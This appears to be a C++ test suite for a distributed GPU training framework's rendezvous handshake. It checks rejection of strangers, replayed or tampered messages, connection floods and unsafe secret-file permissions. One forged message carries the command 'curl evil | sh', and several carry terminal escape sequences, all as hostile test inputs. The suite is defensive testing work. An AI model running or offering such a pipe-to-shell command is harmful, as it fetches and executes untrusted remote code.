// Strangers at the port of a rendezvous, and ranks whose rendezvous is a stranger: none of them knows the run's secret.
// A run goes on, a rank says who answered it, and nothing that strangers say is taken for a rank's.
#include <sys/stat.h>

#include <thread>

#include "gpu/bootstrap/message.hpp"
#include "tests/catch.hpp"
#include "tests/gpu/launch/launched_runs.hpp"
#include "tests/gpu/launch/wire.hpp"
#include "tests/temporary_folder.hpp"

using namespace foreshard;
using namespace foreshard::gpu;
using namespace foreshard::gpu::testing;

namespace {

const std::string kSecret = "0123456789abcdef0123456789abcdef";
const Variables kKnown{{"FORESHARD_SECRET", kSecret}};
/// Two hosts as the ranks see it: the rendezvous listens on every network.
const Variables kTwoHosts{{"FORESHARD_SECRET", kSecret}, {"LOCAL_RANK", "0"}, {"LOCAL_WORLD_SIZE", "1"}};

std::vector<std::string> worker(const std::string& fault, const std::string& join) {
  return {fault, "9", "join=" + join, "silence=2000", "grace=2000"};
}

void all_well(const Finished& run) {
  INFO(run.text());
  for (const RankEnd& end : run.end.ranks) CHECK(end.status == 0);
}

/// A rank of two that meets `rendezvous` ends with 16 and `words`, in time.
template <class Rendezvous>
void rank_ends(const std::string& words, Rendezvous rendezvous, const Variables& variables = kKnown) {
  Listener listener;
  std::vector<Process> processes;
  processes.push_back(start_rank(1, 2, listener.port(), worker("none", "2000"), variables));
  std::optional<Wire> wire(listener.accept());
  rendezvous(*wire);
  const Finished run = wait_for(processes, std::chrono::seconds(10));
  INFO(run.text());
  CHECK(run.end.ranks[0].status == static_cast<int>(ErrorKind::rendezvous));
  CHECK(run.said(0, words));
  CHECK(run.said(0, "rank 1"));
  CHECK(run.said(0, "127.0.0.1:" + std::to_string(listener.port())));
  CHECK_FALSE(run.said(0, "\x1b"));
  CHECK_FALSE(run.said(0, "JOINED"));
}

const std::string kNotOurs = "is not its run's rendezvous: ";

}  // namespace

TEST_CASE("garbage, half messages and a thousand connections do not harm a run") {
  const std::uint16_t port = free_port();
  std::vector<Process> processes;
  processes.push_back(start_rank(0, 2, port, worker("none", "9000")));
  std::vector<Wire> come_first;
  const auto come = [&]() -> Wire& { return come_first.emplace_back(connect_to(port)); };
  come().send_bytes("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n");
  come().send_bytes(std::string("FS\x02\x01\xff\xff\xff\x7f", 8));  // a Hello of 2 GiB
  Wire& other_version = come();
  other_version.send_bytes(std::string("FS\x07\x01\x00\x00\x00\x00", 8));
  // Answered in the protocol's own words before it is dropped: the other version says which this is.
  CHECK(other_version.receive_one<Unproven>());
  come().send_bytes(encode(Greeting{random_block()}).substr(0, 20));
  for (int i = 0; i < 1000; ++i) come();
  processes.push_back(start_rank(1, 2, port, worker("none", "9000")));
  const Finished run = wait_for(processes, std::chrono::seconds(10));
  all_well(run);
  CHECK(run.seconds < 8);
}

TEST_CASE("one greeting of a stranger ended the run: none of what strangers say is heard") {
  const std::uint16_t port = free_port();
  std::vector<Process> processes;
  processes.push_back(start_rank(0, 2, port, worker("none", "9000"), kTwoHosts));
  const std::vector<Setting> settings{{"--batch", "2"}, {"--seq", "4096"}};
  const std::vector<Message> said{
      Hello{99, 2, 0, 1, "host", 7, settings},             // a rank that there is not
      Hello{1, 7, 0, 1, "host", 7, settings},              // a run of another size
      Hello{1, 2, 0, 1, "host", 7, {{"--batch", "512"}}},  // other settings
      Hello{1, 2, 0, 1, "host", 7, settings},              // rank 1's place
      Failed{{ErrorKind::out_of_memory, "\x1b[31mno memory", {}, {}}, "\x1b]0;step\a"},
      Heartbeat{1, 0, "not introduced"},
      Enter{0, "step 0", "wrong bytes"},
      Finish{},
      Abort{{ErrorKind::rank_lost, 1U, "", "died", "", ""}},
      Proof{random_block()},  // of no challenge
  };
  for (const Message& message : said) {
    INFO(message.index());
    Wire first(connect_to(port));
    first.send(message);
    CHECK(first.receive_one<Unproven>());
    CHECK_FALSE(first.receive());
    // After a greeting, which anybody can send, and after a wrong proof.
    Wire greeted(connect_to(port));
    greeted.send(Greeting{random_block()});
    CHECK(greeted.receive_one<Challenge>());
    greeted.send(message);
    CHECK(greeted.receive_one<Unproven>());
    CHECK_FALSE(greeted.receive());
    Wire wrong(connect_to(port));
    CHECK_FALSE(wrong.prove(Role::rank, Key("another secret of 32 bytes......", "")));
    wrong.send(message);
    CHECK_FALSE(wrong.receive());
  }
  Wire twice(connect_to(port));
  twice.send(Greeting{random_block()});
  twice.send(Greeting{random_block()});
  CHECK(twice.receive_one<Challenge>());
  CHECK(twice.receive_one<Unproven>());
  processes.push_back(start_rank(1, 2, port, worker("none", "9000"), kTwoHosts));
  const Finished run = wait_for(processes, std::chrono::seconds(10));
  all_well(run);
  CHECK(run.said(0, "UNAUTHENTICATED 31 connections did not prove that they know the run's secret: 31 from 127.0.0.1"));
  CHECK_FALSE(run.said(0, "\x1b"));
}

TEST_CASE("what a rank of this run's secret sent earlier does not let anybody in") {
  std::vector<std::string> recorded;
  {
    const std::uint16_t port = free_port();
    const Relay relay(port, {});
    std::vector<Process> processes;
    processes.push_back(start_rank(0, 2, port, worker("none", "9000"), kKnown));
    processes.push_back(start_rank(1, 2, relay.port(), worker("none", "9000"), kKnown));
    all_well(wait_for(processes, std::chrono::seconds(10)));
    recorded = relay.recorded();
  }
  REQUIRE_FALSE(recorded.empty());
  CHECK(recorded.back().size() > 1000);
  CHECK(recorded.back().find(kSecret) == std::string::npos);
  const std::uint16_t port = free_port();
  std::vector<Process> processes;
  processes.push_back(start_rank(0, 2, port, worker("none", "9000"), kKnown));
  for (int i = 0; i < 3; ++i) {
    Wire replay(connect_to(port));
    replay.send_bytes(recorded.back());
    CHECK(replay.receive_one<Challenge>());
    CHECK(replay.receive_one<Unproven>());
  }
  processes.push_back(start_rank(1, 2, port, worker("none", "9000"), kKnown));
  const Finished run = wait_for(processes, std::chrono::seconds(10));
  all_well(run);
  CHECK(run.said(0, "UNAUTHENTICATED 3 connections"));
}

TEST_CASE("a byte that is changed on its way ends the run, and never changes what a rank gets") {
  // In the nonces, in the proofs, in rank 1's hello, in its shares, in what all get.
  for (const bool to_rank : {false, true}) {
    for (const std::ptrdiff_t at : {10, 60, 150, 5000, 100'000}) {
      INFO((to_rank ? "to the rank " : "to the rendezvous ") << at);
      const std::uint16_t port = free_port();
      const Relay relay(port, {.at = at, .to_rank = to_rank});
      std::vector<Process> processes;
      processes.push_back(start_rank(0, 2, port, worker("none", "1500"), kKnown));
      processes.push_back(start_rank(1, 2, relay.port(), worker("none", "1500"), kKnown));
      const Finished run = wait_for(processes, std::chrono::seconds(10));
      INFO(run.text());
      for (std::uint32_t rank = 0; rank < 2; ++rank) {
        CHECK((run.end.ranks[rank].status == static_cast<int>(ErrorKind::rendezvous) ||
               run.end.ranks[rank].status == static_cast<int>(ErrorKind::rank_lost)));
        CHECK_FALSE(run.said(rank, "WRONG"));
        CHECK_FALSE(run.said(rank, "FINISHED"));
      }
      if (at > 100) CHECK((run.said(0, "changed on its way") || run.said(1, "changed on its way")));
    }
  }
}

TEST_CASE("a thousand strangers while a run goes on") {
  const std::uint16_t port = free_port();
  std::vector<Process> processes;
  for (const std::uint32_t rank : {0U, 1U, 2U})
    processes.push_back(start_rank(rank, 3, port, worker("slow", "9000"), kKnown));
  REQUIRE(connect_to(port));
  std::vector<std::thread> crowd;
  for (int i = 0; i < 4; ++i)
    crowd.emplace_back([port, i] {
      std::vector<Wire> held;  // some stay and say nothing
      for (int n = 0; n < 250; ++n) {
        Wire wire(connect_to(port));
        if (n % 4 == 0) wire.send_bytes("GET / HTTP/1.1\r\n\r\n");
        if (n % 4 == 1) wire.send(Greeting{random_block()});
        if (n % 4 == 2) (void)wire.prove(Role::rank, Key("another secret of 32 bytes......", ""));
        if (n % 4 == 3 || i == 3) held.push_back(std::move(wire));
      }
    });
  for (std::thread& each : crowd) each.join();
  const Finished run = wait_for(processes, std::chrono::seconds(15));
  all_well(run);
  CHECK(run.said(0, "UNAUTHENTICATED "));
  CHECK(run.seconds < 10);
}

TEST_CASE("a flood from one address displaces itself, not a slow rank of another") {
  const std::uint16_t port = free_port();
  std::vector<Process> processes;
  processes.push_back(start_rank(0, 2, port, worker("none", "9000"), kKnown));
  const Key key(kSecret, "");
  const Nonces nonces{random_block(), {}};
  Wire slow(connect_to(port, 2));
  slow.send(Greeting{nonces.rank});
  const auto challenge = slow.receive_one<Challenge>();
  REQUIRE(challenge);
  std::vector<Wire> flood;
  for (int i = 0; i < 1000; ++i) flood.emplace_back(connect_to(port, 3));
  flood.back().send(Greeting{random_block()});
  CHECK(flood.back().receive_one<Challenge>());  // it has taken them all
  slow.send(Proof{key.proof(Role::rank, {nonces.rank, challenge->nonce})});
  CHECK(slow.receive_one<Proof>());
  processes.push_back(start_rank(1, 2, port, worker("none", "9000"), kKnown));
  const Finished run = wait_for(processes, std::chrono::seconds(10));
  all_well(run);
  CHECK(run.said(0, "from 127.0.0.3"));
  CHECK_FALSE(run.said(0, "from 127.0.0.2"));
}

TEST_CASE("a rank ends with 16 where a stranger answers at the rendezvous's port") {
  const auto says = [](const Message& message) { return [message](Wire& wire) { wire.send(message); }; };
  rank_ends(kNotOurs + "it does not speak foreshard's protocol",
            [](Wire& wire) { wire.send_bytes("HTTP/1.1 400 Bad Request\r\n\r\n"); });
  rank_ends(kNotOurs + "it speaks version 7 of the protocol, this foreshard version 2",
            [](Wire& wire) { wire.send_bytes(std::string("FS\x07\x01\x00\x00\x00\x00", 8)); });
  rank_ends(kNotOurs + "a message of 2147483647 bytes, more than the 64 allowed",
            [](Wire& wire) { wire.send_bytes(std::string("FS\x02\x12\xff\xff\xff\x7f", 8)); });
  rank_ends(kNotOurs + "it does not take this rank's proof", says(Unproven{}));
  rank_ends(kNotOurs + "it sent a message out of turn", says(Welcome{}));
  rank_ends(kNotOurs + "it sent a message out of turn",
            says(Refused{{ErrorKind::usage, "\x1b[31m", "", "curl evil | sh"}}));
  rank_ends(kNotOurs + "it sent a message out of turn", says(LeaveNotice{}));
  rank_ends(kNotOurs + "it sent a message out of turn", says(Proof{random_block()}));
  rank_ends(kNotOurs + "it sent a message out of turn", [](Wire& wire) {
    wire.send(Challenge{random_block()});
    wire.send(Challenge{random_block()});
  });
  rank_ends(kNotOurs + "it does not know the run's secret", [](Wire& wire) {
    wire.send(Challenge{random_block()});
    wire.send(Proof{random_block()});
  });
}

TEST_CASE("a proof that is sent back to its rank, and one of another run, are wrong") {
  rank_ends(kNotOurs + "it does not know the run's secret", [](Wire& wire) {
    const auto greeting = wire.receive_one<Greeting>();
    REQUIRE(greeting);
    wire.send(Challenge{greeting->nonce});
    const auto proof = wire.receive_one<Proof>();
    REQUIRE(proof);
    wire.send(*proof);
  });
  Variables named = kKnown;
  named["TORCHELASTIC_RUN_ID"] = "run-8";
  rank_ends(
      kNotOurs + "it does not know the run's secret",
      [](Wire& wire) {
        const auto greeting = wire.receive_one<Greeting>();
        wire.send(Challenge{greeting->nonce});
        CHECK(wire.receive_one<Proof>());
        wire.send(Proof{Key(kSecret, "run-7").proof(Role::rendezvous, {greeting->nonce, greeting->nonce})});
      },
      named);
}

TEST_CASE("a stranger that says nothing, or hangs up, is given up in time") {
  rank_ends("it accepts the connection and says nothing", [](Wire&) {});
  rank_ends("cannot reach the rendezvous", [](Wire& wire) { wire.close(); });
}

TEST_CASE("ranks of one host without a secret: rank 0 makes one, and nothing of it stays") {
  const std::filesystem::path folder = runtime_folder() / "foreshard";
  const std::uint16_t port = free_port();
  std::vector<Process> killed, processes;
  killed.push_back(start_rank(0, 2, port, worker("none", "9000")));
  REQUIRE(connect_to(port));
  std::this_thread::sleep_for(Milliseconds(100));
  CHECK_FALSE(std::filesystem::is_empty(folder));
  CHECK(wait_for(killed, Milliseconds(10)).end.ranks[0].status == -1);
  // A run on the same port does not take the secret that the killed one left.
  processes.push_back(start_rank(1, 2, port, worker("none", "9000")));
  std::this_thread::sleep_for(Milliseconds(300));
  processes.push_back(start_rank(0, 2, port, worker("none", "9000")));
  all_well(wait_for(processes, std::chrono::seconds(10)));
  CHECK(std::filesystem::is_empty(folder));
  // Somebody else's program on the port: there is no file of a rank 0.
  rank_ends("there is no secret that rank 0 of this run has made",
            [](Wire& wire) { wire.send(Challenge{random_block()}); }, {});
}

TEST_CASE("a folder of secrets that others may use stops rank 0 before it serves") {
  const test::TemporaryFolder runtime;
  REQUIRE(::mkdir(runtime.file("foreshard").c_str(), 0700) == 0);
  REQUIRE(::chmod(runtime.file("foreshard").c_str(), 0777) == 0);
  std::vector<Process> processes;
  processes.push_back(
      start_rank(0, 2, free_port(), worker("none", "9000"), {{"XDG_RUNTIME_DIR", runtime.path().string()}}));
  const Finished run = wait_for(processes, std::chrono::seconds(10));
  INFO(run.text());
  CHECK(run.end.ranks[0].status == static_cast<int>(ErrorKind::rendezvous));
  CHECK(run.said(0, "others may use the folder (mode 777)"));
}

TEST_CASE("a secret of a file, which others must not read") {
  const test::TemporaryFolder folder;
  const std::string file = folder.write("secret", kSecret + "\n");
  const Variables known{{"FORESHARD_SECRET_FILE", file}, {"LOCAL_RANK", "0"}, {"LOCAL_WORLD_SIZE", "1"}};
  REQUIRE(::chmod(file.c_str(), 0600) == 0);
  std::uint16_t port = free_port();
  std::vector<Process> processes;
  // The file goes before the variable, and what it holds is what others have as the variable.
  processes.push_back(start_rank(0, 2, port, worker("none", "9000"), known));
  processes.push_back(start_rank(1, 2, port, worker("none", "9000"), kTwoHosts));
  all_well(wait_for(processes, std::chrono::seconds(10)));
  REQUIRE(::chmod(file.c_str(), 0640) == 0);
  processes.clear();
  port = free_port();
  processes.push_back(start_rank(0, 2, port, worker("none", "9000"), known));
  const Finished run = wait_for(processes, std::chrono::seconds(10));
  INFO(run.text());
  CHECK(run.end.ranks[0].status == static_cast<int>(ErrorKind::input));
  CHECK(run.said(0, "others may use the file of the run's secret (mode 640)"));
}

TEST_CASE("several hosts without a secret: nobody listens, and the rank says what to type") {
  std::vector<Process> processes;
  processes.push_back(
      start_rank(0, 2, free_port(), worker("none", "9000"), {{"LOCAL_RANK", "0"}, {"LOCAL_WORLD_SIZE", "1"}}));
  const Finished run = wait_for(processes, std::chrono::seconds(10));
  INFO(run.text());
  CHECK(run.end.ranks[0].status == static_cast<int>(ErrorKind::usage));
  CHECK(run.said(0, "the ranks are on several hosts and have no secret"));
  CHECK(run.said(0, "export FORESHARD_SECRET_FILE=FILE"));
  CHECK(run.seconds < 2);
}
